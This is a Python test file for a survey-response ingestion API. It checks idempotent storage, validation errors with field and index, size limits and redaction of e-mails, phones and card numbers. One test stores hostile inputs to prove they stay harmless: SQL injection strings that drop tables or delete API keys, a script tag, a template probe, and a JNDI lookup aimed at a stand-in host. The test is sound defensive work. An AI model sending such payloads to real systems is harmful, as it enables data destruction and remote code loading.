"""Pushing responses: accepted once, idempotent, refused with the field and index named, never lost."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import func, select

from tests.support.personal_data import DISGUISED, fullwidth
from vocengine.store.tables import Response

RESPONSE = Response.__table__


def item(i: int, **extra):
    return {"source": "survey", "external_id": f"s-{i}", "text": f"Support answered ticket {i} quickly.", **extra}


def stored(service) -> int:
    with service.engine.connect() as connection:
        return connection.execute(select(func.count()).select_from(RESPONSE)).scalar_one()


def test_one_response_is_accepted_stored_redacted_and_pending(service):
    with service.client("ingest") as client:
        reply = client.post(
            "/v1/responses", json=item(1, text="Mail me at jane.doe@example.com, the invoice is wrong.")
        )
    assert reply.status_code == 202
    body = reply.json()
    assert body["accepted"] == 1 and body["items"][0]["status"] == "accepted"
    with service.engine.connect() as connection:
        row = connection.execute(select(RESPONSE).where(RESPONSE.c.id == body["items"][0]["id"])).one()
    assert row.status == "pending"
    assert "jane.doe@example.com" not in row.text and "[EMAIL]" in row.text


def test_resending_changes_nothing_and_says_so(service):
    with service.client("ingest") as client:
        first = client.post("/v1/responses", json=item(1))
        again = client.post("/v1/responses", json=item(1, text="A different text for the same id."))
        batch = client.post("/v1/responses/batch", json={"items": [item(1), item(2)]})
    assert first.status_code == 202 and again.status_code == 200
    assert again.json()["items"][0] == {"index": 0, "id": first.json()["items"][0]["id"], "status": "duplicate"}
    assert [i["status"] for i in batch.json()["items"]] == ["duplicate", "accepted"]
    assert stored(service) == 2
    with service.engine.connect() as connection:
        text = connection.execute(select(RESPONSE.c.text).where(RESPONSE.c.external_id == "s-1")).scalar_one()
    assert text == item(1)["text"]


def test_the_same_external_id_from_two_sources_is_two_responses(service):
    with service.client("ingest") as client:
        client.post("/v1/responses", json=item(1))
        reply = client.post("/v1/responses", json=item(1, source="ticket"))
    assert reply.status_code == 202 and stored(service) == 2


def test_a_batch_is_accepted_with_ids_in_order(service):
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", json={"items": [item(i) for i in range(20)]})
    assert reply.status_code == 202
    items = reply.json()["items"]
    assert [i["index"] for i in items] == list(range(20)) and len({i["id"] for i in items}) == 20
    assert stored(service) == 20


@pytest.mark.parametrize(
    ("bad", "field", "words"),
    [
        ({"text": ""}, "items.3.text", "empty"),
        ({"text": "   \n "}, "items.3.text", "empty"),
        ({"text": 42}, "items.3.text", "string"),
        ({"text": "x" * 20_001}, "items.3.text", "limit"),
        ({"source": "fax"}, "items.3.source", "survey"),
        ({"score": 11, "score_type": "nps"}, "items.3", "between 0 and 10"),
        ({"score": 4}, "items.3", "together"),
        ({"colour": "blue"}, "items.3.colour", "not permitted"),
        ({"submitted_at": "yesterday"}, "items.3.submitted_at", "datetime"),
    ],
)
def test_an_invalid_item_is_refused_with_its_index_and_field(service, bad, field, words):
    items = [item(i) for i in range(5)]
    items[3] = {**items[3], **bad}
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", json={"items": items})
    assert reply.status_code == 422
    error = reply.json()["error"]
    assert error["code"] == "validation_error"
    detail = error["details"][0]
    assert detail["index"] == 3 and detail["field"].startswith(field)
    assert words in detail["message"] or words in error["message"]
    assert stored(service) == 0  # all or nothing: the tool fixes item 3 and re-sends


def test_missing_text_is_named(service):
    with service.client("ingest") as client:
        reply = client.post("/v1/responses", json={"source": "chat", "external_id": "c1"})
    assert reply.status_code == 422
    assert reply.json()["error"]["details"][0]["field"] == "text"


def test_duplicate_ids_inside_one_batch_are_refused(service):
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", json={"items": [item(1), item(2), item(1)]})
    assert reply.status_code == 422
    error = reply.json()["error"]
    assert error["code"] == "duplicate_in_batch" and error["details"][0]["index"] == 2
    assert stored(service) == 0


def test_invalid_json_is_a_clear_422(service):
    with service.client("ingest") as client:
        reply = client.post(
            "/v1/responses", content=b'{"source": "survey", "text": ', headers={"Content-Type": "application/json"}
        )
    assert reply.status_code == 422
    assert "JSON" in reply.json()["error"]["message"]


def test_a_batch_over_the_item_limit_is_413(service):
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", json={"items": [item(i) for i in range(51)]})
    assert reply.status_code == 413
    assert "at most 50" in reply.json()["error"]["message"]
    assert stored(service) == 0


def test_an_over_large_body_is_413_before_it_is_read(service):
    body = json.dumps({"items": [item(i, text="long " * 2000) for i in range(40)]}).encode()
    assert len(body) > service.settings.max_body_bytes
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", content=body, headers={"Content-Type": "application/json"})
        chunked = client.post(
            "/v1/responses/batch", content=iter([body[:100_000], body[100_000:]]),
            headers={"Content-Type": "application/json"},
        )  # fmt: skip
    assert reply.status_code == 413 and chunked.status_code == 413
    assert reply.json()["error"]["code"] == "payload_too_large"
    assert stored(service) == 0


def test_injection_looking_text_is_stored_as_text_and_harmless(service):
    nasty = [
        "'); DROP TABLE response; --",
        "<script>alert('x')</script> Robert'); DELETE FROM api_key;--",
        "{{7*7}} ${jndi:ldap://evil/a} \u0000 end",
    ]
    with service.client("ingest") as client:
        reply = client.post(
            "/v1/responses/batch",
            json={"items": [item(i, text=t, segments={"note'; --": t[:30]}) for i, t in enumerate(nasty)]},
        )
        assert reply.status_code == 202
        ids = [i["id"] for i in reply.json()["items"]]
    with service.client("read") as client:
        texts = [client.get(f"/v1/responses/{i}").json()["text"] for i in ids]
    # Stored as the engine reads it: markup removed (a script's content with it) and spacing tidied before
    # redaction, so markup cannot hide personal data; NUL removed, PostgreSQL text cannot hold it.
    assert texts == [
        "'); DROP TABLE response; --",
        "Robert'); DELETE FROM api_key;--",
        "{{7*7}} ${jndi:ldap://evil/a} end",
    ]
    assert stored(service) == 3


def test_disguised_personal_data_is_redacted_before_it_is_stored_and_served(service):
    items = [item(i, text=text) for i, (_, text, _) in enumerate(DISGUISED)]
    with service.client("ingest", "read") as client:
        reply = client.post("/v1/responses/batch", json={"items": items})
        assert reply.status_code == 202, reply.text
        ids = [i["id"] for i in reply.json()["items"]]
        served = [client.get(f"/v1/responses/{i}").json()["text"] for i in ids]
    with service.engine.connect() as connection:
        rows = dict(connection.execute(select(RESPONSE.c.id, RESPONSE.c.text)).all())
    expected = [stored for _, _, stored in DISGUISED]
    assert [rows[i] for i in ids] == expected
    assert served == expected


@pytest.mark.parametrize("field", ["external_id", "account_id", "contact_id"])
@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("jane.doe@example.com", "an e-mail address"),
        ("jane&#64;example.com", "an e-mail address"),
        (fullwidth("jane@example.com"), "an e-mail address"),
        ("+1 415 555 0132", "a phone number"),
        ("card-4111-1111-1111-1111", "a payment card number"),
    ],
)
def test_an_id_carrying_personal_data_is_refused_naming_the_field(service, field, value, kind):
    with service.client("ingest") as client:
        reply = client.post("/v1/responses/batch", json={"items": [item(0), {**item(1), field: value}]})
    assert reply.status_code == 422
    detail = reply.json()["error"]["details"][0]
    assert detail["index"] == 1 and detail["field"] == f"items.1.{field}"
    assert kind in detail["message"] and "pseudonymous" in detail["message"]
    assert stored(service) == 0


def test_ids_made_of_digits_or_names_are_taken_as_the_source_sends_them(service):
    # 4111111111111111 passes the Luhn check, but an id of digits only is the source system's number.
    items = [item(0, external_id="4111111111111111", account_id="acme", contact_id="jane")]
    with service.client("ingest") as client:
        assert client.post("/v1/responses/batch", json={"items": items}).status_code == 202
    with service.engine.connect() as connection:
        row = connection.execute(select(RESPONSE)).one()
    assert (row.external_id, row.account_id, row.contact_id) == ("4111111111111111", "acme", "jane")


def test_channel_persona_and_segment_values_are_redacted_like_text(service):
    sent = item(
        0,
        channel="jane&#64;example.com",
        persona="Admin \uff08+1 415 555 0132\uff09",
        segments={"region": "EMEA", "owner": "jane@<b></b>example.com", "card": 4111111111111111, "seats": 250},
    )
    with service.client("ingest") as client:
        assert client.post("/v1/responses", json=sent).status_code == 202
    with service.engine.connect() as connection:
        row = connection.execute(select(RESPONSE)).one()
    assert row.channel == "[EMAIL]" and row.persona == "Admin ([PHONE])"
    assert row.segments == {"region": "EMEA", "owner": "[EMAIL]", "card": "[CARD]", "seats": 250}
